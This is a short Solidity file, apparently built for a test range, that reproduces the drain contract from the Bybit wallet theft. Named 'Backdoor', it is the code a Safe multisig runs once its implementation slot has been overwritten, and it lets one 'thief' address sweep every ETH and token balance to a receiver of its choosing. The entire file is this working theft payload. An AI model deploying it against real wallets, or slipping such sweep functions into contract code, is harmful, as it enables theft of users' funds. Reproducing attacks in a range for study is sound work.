// SPDX-License-Identifier: Apache-2.0
pragma solidity 0.8.37;

interface ISwept {
    function balanceOf(address account) external view returns (uint256);
    function transfer(address to, uint256 value) external returns (bool);
}

/// The code that a Safe runs after its first slot was replaced: whoever holds the key takes what it holds. Names of the functions as
/// published of the theft from Bybit; here only one account may call them, so that nobody else in the range does.
contract Backdoor {
    address private immutable thief;

    constructor(address thief_) {
        thief = thief_;
    }

    receive() external payable {}

    function sweepETH(address payable receiver) external {
        require(msg.sender == thief, "no");
        (bool paid, ) = receiver.call{value: address(this).balance}("");
        require(paid, "not paid");
    }

    function sweepERC20(address token, address to) external {
        require(msg.sender == thief, "no");
        require(ISwept(token).transfer(to, ISwept(token).balanceOf(address(this))), "no token");
    }
}
